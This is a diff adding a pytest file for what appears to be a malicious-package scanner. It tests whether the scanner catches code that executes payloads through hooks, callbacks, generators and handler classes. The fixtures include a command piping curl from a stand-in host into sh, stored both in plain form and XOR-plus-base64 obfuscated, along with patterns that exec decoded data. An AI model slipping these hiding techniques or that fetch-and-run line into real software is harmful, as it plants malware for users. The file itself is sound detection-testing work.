@@ -1,0 +1,51 @@
+"""What somebody else calls of what was handed to them is not out of sight: callbacks, handlers, hooks."""
+
+import base64
+
+import pytest
+from attack_files import wheel
+
+from ostiary.checks.behaviour.unreadable import unreadable
+from ostiary.core.finding import Hit
+from ostiary.core.scale import Severity
+from ostiary.program.flow import Act
+from ostiary.program.model import Program
+
+PAYLOAD = b"import os\nos.system('curl http://a.example.invalid/x | sh')\n"
+HIDDEN = base64.b64encode(bytes(one ^ 7 for one in PAYLOAD)).decode()
+SHOWN = "bytes(one ^ 7 for one in base64.b64decode(HIDDEN)).decode()"
+
+HOOKS = {
+    "lambda in a place outside": f"sys.excepthook = lambda *given: exec({SHOWN})",
+    "exec handed on": f"asyncio.new_event_loop().call_soon(exec, {SHOWN})",
+    "os.system handed on": "outside.later(os.system, 'curl http://a.example.invalid/x | sh')",
+    "the second of a generator": f"def g():\n    yield 'pass'\n    yield {SHOWN}\n"
+    "i = g()\nnext(i)\nexec(next(i))",
+}
+
+HANDLERS = {
+    "a parser of pages": "class P(html.parser.HTMLParser):\n    def handle_data(self, data):\n        {}",
+    "a shell of commands": "class P(cmd.Cmd):\n    def do_x(self, data):\n        {}",
+    "a visitor": "class P(ast.NodeVisitor):\n    def visit_Constant(self, data):\n        {}",
+    "an option": "parser.add_argument('--x', type=lambda data: {})",
+}
+
+
+def program(text: str) -> Program:
+    names = "ast, asyncio, base64, cmd, html.parser, os, outside, sys"
+    files = {"pkg/__init__.py": f"import {names}\nHIDDEN = {HIDDEN!r}\n{text}\n"}
+    return next(one for one in wheel(files).facts if isinstance(one, Program))
+
+
+@pytest.mark.parametrize("hook", HOOKS)
+def test_what_is_handed_on_runs(hook: str) -> None:
+    flows = program(HOOKS[hook]).flows
+    assert any("a.example.invalid" in one.text for one in flows if one.act is Act.RUN)
+
+
+@pytest.mark.parametrize("handler", HANDLERS)
+def test_who_executes_what_it_decodes_is_looked_at(handler: str) -> None:
+    told = unreadable.run(program(HANDLERS[handler].format("exec(base64.b64decode(data))")))
+    assert [one.severity for one in told if isinstance(one, Hit)] == [Severity.HIGH]
+    plain = unreadable.run(program(HANDLERS[handler].format("print(base64.b64decode(data))")))
+    assert not list(plain)
